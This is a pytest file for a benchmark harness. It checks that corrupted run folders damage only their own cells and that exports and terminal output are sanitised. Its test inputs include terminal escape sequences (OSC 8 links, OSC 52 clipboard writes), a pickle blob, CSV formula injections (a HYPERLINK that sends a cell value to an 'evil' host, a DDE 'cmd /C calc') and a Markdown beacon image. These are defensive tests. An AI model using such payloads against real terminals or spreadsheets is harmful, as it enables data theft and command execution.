"""A run's folder that came from elsewhere, or was damaged: it costs no more than its own cells, and
nothing in it commands a terminal, a spreadsheet or a CI."""

from __future__ import annotations

import csv
import io
import json
import random
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from example_run import devices as example_devices
from example_run.run import ExampleRun, example

from harness import cli, export
from harness.analysis import noise_floor
from harness.cli import console, run_text
from harness.records import Cell, CellResult, Failure, Plan
from harness.report import page
from harness.report.build import BUGS, build
from harness.report.page import cell_href
from harness.serial import dumps
from harness.store import Run, RunFolder

#: a link and a text in the clipboard (OSC 8 and 52), a title, colours, the C1 forms of both, what
#: turns letters around, a bell, and half a surrogate pair
EVIL = (
    "\x1b]8;;http://evil\x07x\x1b]8;;\x07\x1b]52;c;ZXZpbA==\x07\x1b]0;t\x1b\\\x1b[2J\x9b2J"
    "\x9d52;c;ZXZpbA==\x9c\u202eevil\x07\x7f\ud800"
)
CONTROLS = {*map(chr, range(0x20)), *map(chr, range(0x7F, 0xA0)), "\u202e"} - {"\n", "\t"}


def quiet(text: str) -> None:
    """Nothing in it is more than text."""
    assert not CONTROLS & set(text), sorted(map(repr, CONTROLS & set(text)))


# ---- damage ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> ExampleRun:
    folder = tmp_path_factory.mktemp("whole") / "run"
    return example(folder, devices=("local",), formats=("onnx",), samples=60, trials=1)


def copied(run: ExampleRun, folder: Path) -> ExampleRun:
    import shutil

    shutil.copytree(run.folder, folder)
    return replace(run, folder=folder)


DEEP = b"[" * 100_000
DAMAGE: dict[str, Callable[[bytes], bytes]] = {
    "empty": lambda good: b"",
    "cut": lambda good: good[: len(good) // 2],
    "zeros": lambda good: bytes(len(good)),
    "deep": lambda good: DEEP,
    "deep behind": lambda good: good + b"\n" + DEEP,
    "numbers": lambda good: good.replace(b"0.", b"9" * 400 + b"."),
    "whole numbers": lambda good: good.replace(b": 1", b": 1" + b"0" * 400),
    "nan": lambda good: good.replace(b": 1", b": NaN, \"x\": 1"),
    "surrogates": lambda good: good.replace(b": \"", b": \"\\ud800"),
    "latin-1": lambda good: good.replace(b"a", b"\xe4"),
    "null": lambda good: b"null",
    "list": lambda good: b"[1, 2, 3]",
    "text": lambda good: b'"x"',
    "a pickle": lambda good: b"\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94.",
}  # fmt: skip
FILES = ("state.jsonl", "layers.json", "samples.npz", "trial.json", "predictions.npz", "log.txt")


@pytest.mark.parametrize("file", FILES)
@pytest.mark.parametrize("kind", DAMAGE)
def test_a_damaged_file_costs_no_other_cell(
    whole: ExampleRun, tmp_path: Path, file: str, kind: str
) -> None:
    run = copied(whole, tmp_path / "run")
    victim, *others = [result for result in run.results if result.trials]
    folder = run.folder / "cells" / victim.cell.id
    there = list(folder.rglob(file)) or [folder / file]
    for path in there:
        path.write_bytes(DAMAGE[kind](path.read_bytes() if path.exists() else b'{"a": 1.5}'))
    out = build(run, tmp_path / "report").parent
    for other in others:
        html = (out / cell_href(other.cell.id)).read_text()
        assert "could not be made" not in html
        assert "median" in html
    assert not (out / BUGS).exists(), (out / BUGS).read_text()


@pytest.mark.parametrize("seed", range(6))
def test_any_bytes_that_change_cost_no_other_cell(
    whole: ExampleRun, tmp_path: Path, seed: int
) -> None:
    run, chance = copied(whole, tmp_path / "run"), random.Random(seed)
    victim, *others = [result for result in run.results if result.trials]
    for path in (run.folder / "cells" / victim.cell.id).rglob("*"):
        if path.is_file():
            data = bytearray(path.read_bytes())
            for _ in range(chance.randrange(1, 9)):
                data[chance.randrange(len(data))] = chance.randrange(256)
            path.write_bytes(data[: chance.randrange(1, len(data) + 1)])
    out = build(run, tmp_path / "report").parent
    for other in others:
        assert "could not be made" not in (out / cell_href(other.cell.id)).read_text()


def test_a_reader_that_breaks_costs_its_cells_page_alone(
    whole: ExampleRun, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Also those pages that show all cells are there, and say so."""
    victim, *others = [result for result in whole.results if result.trials]
    read = page.read_states

    def broken(folder: Path, *more: Any) -> Any:
        if victim.cell.id in str(folder):
            raise ZeroDivisionError("a bug of ours")
        return read(folder, *more)

    monkeypatch.setattr(page, "read_states", broken)
    out = build(whole, tmp_path / "report").parent
    assert "ZeroDivisionError: a bug of ours" in (out / cell_href(victim.cell.id)).read_text()
    for other in others:
        assert "could not be made" not in (out / cell_href(other.cell.id)).read_text()
    assert "median" in (out / "index.html").read_text()
    assert f"in the page of {victim.cell.id}" in (out / BUGS).read_text()


@pytest.mark.parametrize("device", ["../../outside", "/tmp/outside", "a/b", "..", ""])
def test_a_device_of_a_run_names_no_file_of_others(tmp_path: Path, device: str) -> None:
    noise = example_devices.noise()
    cache = tmp_path / "a" / "b" / "cache"
    for name in ("outside", "cache/noise/local"):
        (cache.parent / f"{name}.json").parent.mkdir(parents=True, exist_ok=True)
        (cache.parent / f"{name}.json").write_text(dumps(next(iter(noise.values()))))
    assert noise_floor.load(cache, "local") is not None
    assert noise_floor.load(cache, device) is None


# ---- terminals ---------------------------------------------------------------------------------


@pytest.fixture
def evil(tmp_path: Path) -> Run:
    """Every text of it is EVIL; nothing measured."""
    cell = Cell(EVIL, EVIL, "fp32", EVIL)
    bad = CellResult(EVIL, cell, "failed", "invalid", (EVIL,), EVIL, EVIL,
                     failure=Failure("measure", EVIL, EVIL))  # fmt: skip
    info = example(tmp_path / "example", samples=60, trials=1, devices=("local",)).info
    info = replace(info, run_id=EVIL, scenario=EVIL, notes=(EVIL,), broken_gates=(EVIL,))
    return Run(tmp_path, info, Plan((cell,), ()), (bad,))


def test_a_run_commands_no_terminal(evil: Run, capsys: pytest.CaptureFixture[str]) -> None:
    run_text.show_run(evil)
    console.err().print(run_text.result_line(evil.results[0]))
    console.say(EVIL)
    console.note(EVIL)
    console.styled("dim", EVIL)
    console.show_rows(EVIL, ("a",), [[EVIL]])
    console.show_failure("error", EVIL, EVIL)
    seen = capsys.readouterr()
    quiet(seen.out + seen.err)
    assert "evil" in seen.out


def test_pages_have_no_control_characters(whole: ExampleRun, tmp_path: Path) -> None:
    """A pager shows them as they are; and what turns letters around would turn numbers."""
    text = f"{EVIL}</script><b>".replace("\ud800", "")
    run = replace(whole, info=replace(whole.info, scenario=text, notes=(text,), command=text))
    bad = [replace(result, reasons=(text,)) for result in whole.results]
    out = build(replace(run, results=tuple(bad)), tmp_path / "report").parent
    written = [path.read_text() for path in out.rglob("*.html")]
    assert len(written) > 5
    for html in written:
        quiet(html)
        assert "</script><b>" not in html
    assert "&lt;/script&gt;" in (out / "index.html").read_text()


def test_json_commands_no_terminal_and_means_the_same(capsys: pytest.CaptureFixture[str]) -> None:
    record = {"reason": EVIL, "a\x9bb": ["ü", "漢"]}
    console.json_line(record)
    text = capsys.readouterr().out
    quiet(text)
    assert json.loads(text) == record
    assert "ü漢".replace("漢", '", "漢') in text


def test_only_the_console_writes_markup() -> None:
    """Else a text of others might be taken for a colour."""
    folder = Path(cli.__file__).parent
    users = [one.name for one in folder.glob("*.py") if "rich.markup" in one.read_text()]
    assert users == ["console.py"]


def bench(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    sys.argv = ["bench", *argv]
    with pytest.raises(SystemExit):
        cli.main()
    seen = capsys.readouterr()
    return seen.out + seen.err


def stored(run: Run, runs: Path) -> Path:
    """Without what UTF-8 has no place for."""
    plain = json.loads(json.dumps(EVIL.replace("\ud800", "")))
    cell = Cell("m", "onnx", "fp32", "local")
    result = replace(run.results[0], run_id="r", cell=cell, reasons=(plain,), started_at=plain,
                     finished_at=plain, failure=Failure("measure", plain, plain))  # fmt: skip
    info = replace(run.info, run_id="r", scenario=plain, notes=(plain,), broken_gates=(plain,))
    folder = RunFolder.create(runs / "r", info, Plan((cell,), ()), "name: x\n")
    folder.add(result)
    return folder.folder


def test_no_command_about_a_run_commands_a_terminal(
    evil: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("BENCH_CACHE", str(tmp_path / "cache"))
    project = tmp_path / "project"
    (project / "runs").mkdir(parents=True)
    (project / "bench.toml").write_text("")
    monkeypatch.chdir(project)
    folder = str(stored(evil, project / "runs"))
    commands = [
        ("runs",), ("runs", "--json"), ("export", folder, "-f", "markdown"), ("export", folder),
        ("compare", folder, folder), ("compare", folder, folder, "--json"), ("report", folder),
        ("replay", f"{folder}/cells/m-onnx-fp32-local-t1-b1"), ("du",),
    ]  # fmt: skip
    for command in commands:
        said = bench(capsys, *command)
        quiet(said)
        assert "Traceback" not in said


# ---- spreadsheets, CI, issues ------------------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("http://evil?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1",
    "\n=1", "＝1",
)  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_text_of_a_csv_is_a_formula(evil: Run, formula: str) -> None:
    result = replace(
        evil.results[0], reasons=(formula,), failure=Failure("measure", formula, formula)
    )
    data = export.as_csv(replace(evil, results=(result,))).decode()
    (row,) = csv.DictReader(io.StringIO(data))
    for value in row.values():
        assert not value.lstrip("'").startswith(export.FORMULA) or value.startswith("'"), value
    assert row["hint"] == f"'{export.printable(formula)}"


def test_numbers_below_zero_stay_numbers() -> None:
    assert export._cell_text(-1.5) == -1.5
    assert export._cell_text("1-2") == "1-2"


def test_junit_is_xml_whatever_a_device_says(evil: Run) -> None:
    suite = ElementTree.fromstring(export.as_junit(evil))
    texts = [one.text or "" for one in suite.iter()]
    texts += [value for one in suite.iter() for value in one.attrib.values()]
    for text in texts:
        quiet(text)


def test_markdown_keeps_its_columns_and_has_no_links_of_others(evil: Run) -> None:
    reason = "a\\|b\r\nc [click](http://evil) ![x](http://evil/beacon) <img src=x>"
    result = replace(evil.results[0], reasons=(reason,))
    text = export.as_markdown(replace(evil, results=(result,))).decode()
    line = text.splitlines()[2]
    assert len(text.splitlines()) == 3
    assert r"a\\\|b c [click]\(http://evil) ![x]\(http://evil/beacon) &lt;img src=x>" in line
